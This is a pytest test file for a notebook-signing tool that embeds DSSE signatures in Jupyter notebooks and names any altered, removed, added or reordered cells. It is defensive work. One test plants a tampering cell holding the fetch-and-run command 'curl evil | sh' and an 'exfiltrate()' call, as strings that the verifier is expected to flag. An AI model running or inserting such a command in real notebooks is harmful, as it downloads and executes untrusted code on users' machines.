"""Notebook signatures: embedded DSSE, two scopes, changed cells named."""

from __future__ import annotations

import base64
import hashlib
import json
from pathlib import Path

import nbformat
import pytest

from securenb.core.attest import IN_TOTO_PAYLOAD_TYPE, pae
from securenb.core.canonical import canonical_json
from securenb.core.workspace import Workspace
from securenb.signing import SIGNATURE_PREDICATE, SignRequest, sign, verify
from securenb.signing.notebook import unsigned


@pytest.fixture
def notebook(workspace: Workspace) -> Path:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Training\nsteps below"),
        nbformat.v4.new_code_cell("import numpy as np\nx = np.arange(3)"),
        nbformat.v4.new_code_cell("print(x.sum())"),
    ]
    path = workspace.root / "train.ipynb"
    nbformat.write(nb, path)
    return path


def edit(path: Path, change: object) -> None:
    nb = nbformat.read(path, as_version=4)
    change(nb)  # type: ignore[operator]
    nbformat.write(nb, path)


def execute(nb: nbformat.NotebookNode) -> None:
    """What running the notebook changes: counts, outputs, language_info."""
    nb.cells[2].execution_count = 1
    nb.cells[2].outputs = [nbformat.v4.new_output("stream", text="3\n")]
    nb.metadata["language_info"] = {"name": "python", "version": "3.11.7"}


def test_sign_embeds_a_dsse_envelope(workspace: Workspace, notebook: Path) -> None:
    result = sign(workspace, SignRequest(str(notebook)))
    data = json.loads(notebook.read_text())
    envelope = data["metadata"]["securenb"]["signature"]
    assert envelope["payloadType"] == IN_TOTO_PAYLOAD_TYPE
    statement = json.loads(base64.b64decode(envelope["payload"]))
    # the subject is the RFC 8785 JSON of the (scoped) notebook without the signature
    clean = unsigned(data)
    scoped = {"cells": [{"cell_type": c["cell_type"], "source": c["source"]}
                        for c in clean["cells"]], "kernelspec": clean["metadata"]["kernelspec"]}
    assert statement["subject"][0] == {
        "name": "train.ipynb",
        "digest": {"sha256": hashlib.sha256(canonical_json(scoped)).hexdigest()}}
    assert statement["predicate"]["scope"] == "source" and len(statement["predicate"]["cells"]) == 3
    # the signature is a plain DSSE signature others can check with the public key
    payload = base64.b64decode(envelope["payload"])
    workspace.keystore.public("release").verify(base64.b64decode(envelope["signatures"][0]["sig"]),
                                  pae(envelope["payloadType"], payload))
    assert workspace.store.attestations_for(result.digest, SIGNATURE_PREDICATE)
    cells = nbformat.read(notebook, as_version=4).cells
    assert cells[1].source == "import numpy as np\nx = np.arange(3)"
    assert verify(workspace, notebook).verified


def test_source_scope_survives_reexecution(workspace: Workspace, notebook: Path) -> None:
    sign(workspace, SignRequest(str(notebook), scope="source"))
    edit(notebook, execute)
    result = verify(workspace, notebook)
    assert result.verified, result.lines()
    assert result.algorithm == "sha256, scope source"


def test_executed_scope_covers_outputs_and_metadata(workspace: Workspace, notebook: Path) -> None:
    edit(notebook, execute)
    sign(workspace, SignRequest(str(notebook), scope="executed"))
    assert verify(workspace, notebook).verified

    def new_output(nb: nbformat.NotebookNode) -> None:
        nb.cells[2].outputs[0].text = "4\n"

    edit(notebook, new_output)
    problems = verify(workspace, notebook).problems
    cell_id = nbformat.read(notebook, as_version=4).cells[2].id
    assert problems == (
        f"cell #3 (code, id {cell_id}) 'print(x.sum())' changed (outputs or cell metadata)",)

    def new_metadata(nb: nbformat.NotebookNode) -> None:
        nb.cells[2].outputs[0].text = "3\n"
        nb.metadata["authors"] = [{"name": "mallory"}]

    edit(notebook, new_metadata)
    assert verify(workspace, notebook).problems == ("notebook metadata changed",)


@pytest.mark.parametrize("scope", ["source", "executed"])
def test_each_changed_cell_is_named(workspace: Workspace, notebook: Path, scope: str) -> None:
    sign(workspace, SignRequest(str(notebook), scope=scope))
    ids = [c.id for c in nbformat.read(notebook, as_version=4).cells]

    def tamper(nb: nbformat.NotebookNode) -> None:
        nb.cells[1].source = "import os; os.system('curl evil | sh')"
        del nb.cells[0]
        nb.cells.append(nbformat.v4.new_code_cell("exfiltrate()"))

    edit(notebook, tamper)
    result = verify(workspace, notebook)
    assert not result.verified
    new_id = nbformat.read(notebook, as_version=4).cells[2].id
    assert set(result.problems) == {
        f"cell #1 of the signed notebook removed, id {ids[0]}",
        f"cell #1 (code, id {ids[1]}) \"import os; os.system('curl evil | sh')\" changed (source)",
        f"cell #3 (code, id {new_id}) 'exfiltrate()' added",
    }


def test_kernelspec_is_covered_by_the_source_scope(workspace: Workspace, notebook: Path) -> None:
    sign(workspace, SignRequest(str(notebook)))

    def other_kernel(nb: nbformat.NotebookNode) -> None:
        nb.metadata["kernelspec"]["name"] = "evil-kernel"

    edit(notebook, other_kernel)
    assert verify(workspace, notebook).problems == ("kernelspec changed",)


def test_edited_signature_or_payload(workspace: Workspace, notebook: Path) -> None:
    sign(workspace, SignRequest(str(notebook)))
    data = json.loads(notebook.read_text())
    envelope = data["metadata"]["securenb"]["signature"]
    statement = json.loads(base64.b64decode(envelope["payload"]))
    statement["predicate"]["scope"] = "source"
    statement["subject"][0]["digest"]["sha256"] = "0" * 64
    envelope["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()
    notebook.write_text(json.dumps(data))
    result = verify(workspace, notebook)
    assert not result.verified and result.trust == "not trusted: invalid signature"
    assert "the embedded signature or its payload was edited" in result.problems[0]


def test_unsigned_renamed_and_untrusted(workspace: Workspace, notebook: Path) -> None:
    assert verify(workspace, notebook).problems == (f"{notebook}: not signed "
                                                    "(no metadata.securenb.signature)",)
    sign(workspace, SignRequest(str(notebook)))
    renamed = notebook.with_name("copy.ipynb")
    notebook.rename(renamed)
    moved = verify(workspace, renamed)  # papermill writes its output under another name (10.4)
    assert moved.verified and moved.problems == ()
    assert moved.notes == ("signed as 'train.ipynb', now named 'copy.ipynb' (the content is "
                           "what is checked)",)
    (workspace.root / "securenb.toml").write_text("[trust]\nworkspace_key = false\n")
    result = verify(Workspace(workspace.root), renamed)
    assert not result.verified and "which is not in trust.keys" in result.problems[0]


def test_list_or_string_sources_sign_alike(workspace: Workspace, notebook: Path) -> None:
    """On disk sources are lists of lines; in memory, strings: one canonical form."""
    sign(workspace, SignRequest(str(notebook)))
    data = json.loads(notebook.read_text())
    for cell in data["cells"]:
        cell["source"] = "".join(cell["source"]) if isinstance(cell["source"], list) else cell[
            "source"]
    notebook.write_text(json.dumps(data, indent=2))
    assert verify(workspace, notebook).verified


def test_cells_without_ids_and_reordered_cells(workspace: Workspace, notebook: Path) -> None:
    sign(workspace, SignRequest(str(notebook)))

    def swap(nb: nbformat.NotebookNode) -> None:
        nb.cells[1], nb.cells[2] = nb.cells[2], nb.cells[1]

    edit(notebook, swap)
    assert verify(workspace, notebook).problems == ("cells reordered",)
    data = json.loads(notebook.read_text())  # an nbformat 4.4 notebook: no cell ids
    data["nbformat_minor"] = 4
    for cell in data["cells"]:
        del cell["id"]
    notebook.write_text(json.dumps(data))
    sign(workspace, SignRequest(str(notebook)))
    data = json.loads(notebook.read_text())
    data["cells"][1]["source"] = "x = 1"
    notebook.write_text(json.dumps(data))
    assert verify(workspace, notebook).problems == ("cell #2 (code) 'x = 1' changed (source)",)
